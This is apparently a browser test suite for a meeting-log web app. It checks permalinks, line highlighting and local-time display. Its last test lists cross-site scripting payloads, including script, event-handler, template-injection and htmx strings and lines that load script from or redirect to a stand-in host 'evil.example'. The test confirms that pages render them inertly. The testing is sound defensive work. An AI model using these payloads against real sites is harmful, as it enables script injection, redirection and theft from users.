"""What a reader does with a meeting: follow a link to a line, tell the time, be left in peace."""

from itertools import product

import pytest

from tests.factories import make_milestone, make_release, utc
from tests.thaw.logs import make_meeting

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

IN_VIEW = """element => {
    const box = element.getBoundingClientRect();
    return box.top >= 0 && box.bottom <= window.innerHeight;
}"""
COLOUR = "element => getComputedStyle(element).backgroundColor"
MARK = {"light": "rgb(255, 246, 214)", "dark": "rgb(56, 50, 26)"}


def test_a_permalink_brings_its_line_into_view_and_marks_it(reader):
    meeting = make_meeting(*["words"] * 150, "#agreed no more features", *["words"] * 150)
    decision = meeting.items.get()
    somebody = reader()
    for width, scheme in product((360, 1280), ("light", "dark")):
        somebody.resize(width, scheme)
        somebody.open("/")
        somebody.open(decision.get_absolute_url())
        line, other = (somebody.page.locator(f"#l-{decision.line + away}") for away in (0, -1))
        assert "no more features" in line.inner_text()
        assert line.evaluate(IN_VIEW)
        assert (line.evaluate(COLOUR), other.evaluate(COLOUR)) == (MARK[scheme], "rgba(0, 0, 0, 0)")
    assert somebody.complaints == []


def test_the_outline_and_the_clock_of_a_line_lead_to_the_line(reader):
    meeting = make_meeting("#topic Freezes", *["words"] * 150, "#agreed no more features")
    somebody = reader(viewport={"width": 1280, "height": 700})
    somebody.open(meeting.get_absolute_url())
    somebody.page.locator(".outline .kind-agreed").click()
    line = somebody.page.locator("#l-155")
    assert (somebody.page.url.rpartition("#")[2], line.evaluate(IN_VIEW)) == ("l-155", True)
    somebody.page.locator("#l-154 .at").click()
    assert somebody.page.url.rpartition("#")[2] == "l-154"


@pytest.mark.parametrize(
    ("zone", "told"), [("Asia/Kolkata", "05:30 GMT+5:30, where you are"), ("UTC", "")]
)
def test_what_comes_next_is_told_on_the_readers_clocks_where_they_show_no_utc(zone, told, reader):
    make_milestone(release=make_release(slug="cactus"), at=utc(2126, 12, 8))
    somebody = reader(timezone_id=zone, locale="en-GB")
    somebody.open("/")
    words = somebody.page.locator("[data-local]").inner_text().strip()
    assert (words[-len(told) :] if told else words) == told


@pytest.mark.parametrize(
    ("zone", "clock"),
    [
        ("Pacific/Honolulu", "Tuesday 29 March 2011 at 11:00:03 GMT-10"),
        ("Asia/Kolkata", "Wednesday 30 March 2011 at 02:30:03 GMT+5:30"),
        ("UTC", "Tuesday 29 March 2011 at 21:00:03 UTC"),
    ],
)
def test_an_instant_tells_the_readers_own_time_beside_utc(zone, clock, reader):
    meeting = make_meeting("#topic Freezes")
    somebody = reader(timezone_id=zone, locale="en-GB")
    somebody.open(meeting.get_absolute_url())
    time = somebody.page.locator("#l-4 time")
    assert time.inner_text() == "21:00:03"
    assert time.get_attribute("title").replace(",", "") == clock


def test_every_instant_of_every_page_tells_the_readers_own_time(reader):
    release = make_release(slug="cactus")
    make_milestone(release=release, at=utc(2011, 4, 7))
    own = make_meeting("#agreed no more features").get_absolute_url()
    somebody = reader(timezone_id="Pacific/Honolulu")
    untold = {}
    for path in ("/", "/releases/cactus/", "/meetings/", own, f"{own}minutes/"):
        somebody.open(path)
        assert somebody.page.locator("time").count() > 0
        untold[path] = somebody.page.locator("time:not([title])").count()
    assert untold == dict.fromkeys(untold, 0)


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '" onmouseover="alert(1)" x=\'',
    "' autofocus onfocus='alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "javascript:alert(1)",
    'https://example.org/"onmouseover="alert(1)',
    "</li></ol></main><script src=//evil.example/x.js></script>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example><form action=//evil.example><input name=a>",
    "{{constructor.constructor('alert(1)')()}}",
    "<a hx-get=/admin/ hx-trigger=load>x</a>",
)


def test_hostile_text_opens_nothing_runs_nothing_and_asks_nobody(reader):
    commands = [f"#{kind} {text}" for kind in ("topic", "agreed", "action") for text in HOSTILE]
    meeting = make_meeting(
        *HOSTILE, *commands, *[("x\"onclick='alert(1)", text) for text in HOSTILE], title=HOSTILE[0]
    )
    somebody = reader()
    asked = []
    somebody.page.on("request", lambda request: asked.append(request.url))
    own = meeting.get_absolute_url()
    for path in ("/", "/meetings/", own, f"{own}minutes/"):
        somebody.open(path)
        for place in somebody.page.locator("main a:visible, main li:visible").all()[:8]:
            place.hover()
        assert somebody.page.url == somebody.site + path
    somebody.page.wait_for_timeout(200)
    assert somebody.complaints == []
    assert [url for url in asked if not url.startswith(somebody.site)] == []
    assert [url for url in asked if "/admin/" in url] == []
